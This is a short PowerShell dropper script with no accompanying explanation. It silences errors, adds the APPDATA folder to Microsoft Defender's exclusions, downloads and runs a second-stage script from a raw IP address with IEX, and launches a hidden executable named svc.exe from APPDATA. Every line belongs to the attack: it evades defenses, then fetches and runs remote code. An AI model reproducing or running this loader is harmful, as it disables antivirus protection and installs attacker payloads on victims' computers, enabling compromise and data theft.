$ErrorActionPreference = "SilentlyContinue"
Add-MpPreference -ExclusionPath $env:APPDATA
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.14/stage2.ps1')
Start-Process -WindowStyle Hidden -FilePath "$env:APPDATA\svc.exe"
